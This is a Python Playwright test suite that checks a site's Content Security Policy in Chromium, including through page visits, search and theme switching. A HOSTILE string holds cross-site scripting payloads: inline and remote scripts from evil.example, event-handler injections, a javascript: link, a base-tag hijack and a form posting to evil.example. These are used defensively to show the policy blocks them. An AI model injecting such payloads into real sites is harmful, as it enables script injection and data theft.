"""The content security policy in Chromium: it stops nothing of ours, and everything else.

What is injected here stands for a fault that the first net, the escaping, did not catch.
"""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.browser.test_in_chromium import CLAIMS, LANGUAGES, PAGES
from tests.browser.test_search import searched

TITLE = re.compile("<title>(.*?)</title>")
DESKTOP, PHONE = (1280, 900), (360, 780)
KINDS = (*PAGES, "search/", "rules/", "404.html")
WATCH = """addEventListener("securitypolicyviolation", e => {
  const known = JSON.parse(sessionStorage.getItem("stopped") || "[]");
  known.push(e.effectiveDirective + " " + e.blockedURI);
  sessionStorage.setItem("stopped", JSON.stringify(known));
})"""
HOSTILE = """
<script>document.title = "ran"</script>
<script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,document.title='ran'"></script>
<img alt="" src="nowhere.png" onerror="document.title='ran'">
<svg onload="document.title='ran'"></svg>
<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<img alt="" src="https://evil.example/x.png">
<link rel="stylesheet" href="https://evil.example/x.css">
<object data="https://evil.example/x.swf"></object>
<style>h1 { display: none }</style>
<h2 id="styled" style="position: fixed; inset: 0">Gone</h2>
<base href="https://evil.example/">
<a id="link" href="javascript:document.title='ran';void 0">More</a>
<form action="https://evil.example/form"><button id="send">Send</button></form>
"""


def stopped(page: Page) -> list[str]:
    """Tell what the policy stopped on all pages of a tab so far."""
    found: list[str] = page.evaluate("JSON.parse(sessionStorage.getItem('stopped') || '[]')")
    return found


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": DESKTOP[0], "height": DESKTOP[1]})
    page = context.new_page()
    page.add_init_script(WATCH)
    yield page
    context.close()


@pytest.mark.parametrize("language", LANGUAGES)
def test_no_kind_of_page_breaks_the_policy(tab: Page, address: str, language: str) -> None:
    policies = set()
    for path in KINDS:
        tab.goto(f"{address}{language}{path}", wait_until="networkidle")
        policies.add(
            tab.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content")
        )
        assert stopped(tab) == [], path
    assert len(policies) == 1


def test_the_policy_stands_before_all_that_it_is_to_stop(built: Path) -> None:
    for path in built.rglob("*.html"):
        head = path.read_text(encoding="utf-8").partition("</head>")[0]
        assert re.findall(r"<(?!!)(.*?)[ >]", head)[:4] == ["html", "head", "meta", "meta"], path
        assert head.index("charset") < head.index("Content-Security-Policy") < head.index("<link")


@pytest.mark.parametrize("size", [DESKTOP, PHONE])
def test_what_a_reader_does_breaks_nothing(tab: Page, address: str, size: tuple[int, int]) -> None:
    tab.set_viewport_size({"width": size[0], "height": size[1]})
    tab.goto(address + CLAIMS[0], wait_until="networkidle")
    before = tab.evaluate("getComputedStyle(document.body).backgroundColor")
    tab.locator("label.md-header__button[for^='__palette']:visible").click()
    tab.wait_for_function(
        "old => getComputedStyle(document.body).backgroundColor !== old", arg=before
    )
    after = tab.evaluate("getComputedStyle(document.body).backgroundColor")
    tab.goto(f"{address}pt-BR/about/", wait_until="networkidle")
    assert tab.evaluate("getComputedStyle(document.body).backgroundColor") == after
    tab.locator("header a[href$='search/']").click()
    tab.locator("#q").fill("lucros")
    tab.keyboard.press("Enter")
    tab.locator(".lt-found .lt-line a").first.click()
    tab.wait_for_url(f"{address}pt-BR/claims/**")
    tab.mouse.wheel(0, 3_000)
    tab.wait_for_load_state("networkidle")
    assert stopped(tab) == []


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_search_breaks_nothing(tab: Page, address: str, language: str) -> None:
    tab.goto(f"{address}{language}search/", wait_until="networkidle")
    assert searched(tab, "azure")[-2].isdigit()
    assert tab.locator(".lt-found .lt-line").count() > 1
    assert stopped(tab) == []


@pytest.mark.parametrize("path", ["", CLAIMS[0], "method/", "404.html"])
@pytest.mark.parametrize("guarded", [True, False])
def test_what_is_injected_into_a_page_runs_only_without_the_policy(
    tab: Page,
    built: Path,
    address: str,
    path: str,
    guarded: bool,  # noqa: FBT001
) -> None:
    file = built / path if path.endswith(".html") else built / path / "index.html"
    page = file.read_text(encoding="utf-8").replace("</article>", f"{HOSTILE}</article>", 1)
    if not guarded:
        page = page.replace('http-equiv="Content-Security-Policy"', 'name="off"', 1)
    foreign: list[str] = []

    def answer(route: Route) -> None:
        if route.request.url == address + path:
            route.fulfill(body=page, content_type="text/html; charset=utf-8")
        elif route.request.url.startswith(address):
            route.continue_()
        else:
            foreign.append(route.request.url)
            route.abort()

    tab.route("**/*", answer)
    tab.goto(address + path)
    tab.wait_for_load_state("load")
    title = tab.title()
    tab.evaluate("document.title = 'still'; document.querySelector('#link').click()")
    tab.wait_for_timeout(100)
    clicked = tab.title()
    styled = tab.evaluate("getComputedStyle(document.querySelector('#styled')).position")
    heading = tab.evaluate("getComputedStyle(document.querySelector('h1')).display")
    told = stopped(tab)
    tab.evaluate("document.querySelector('#send').click()")
    tab.wait_for_timeout(100)
    sent = "https://evil.example/form?" in foreign
    ran = (title, clicked == "ran", styled == "fixed", heading == "none", sent)
    if guarded:
        assert (ran, foreign) == ((TITLE.search(page)[1], False, False, False, False), [])  # type: ignore[index]
        assert len(told) >= len(HOSTILE.split("\n<")) - 2
    else:
        assert (ran, len(foreign) > 3, told) == (("ran", True, True, True, True), True, [])
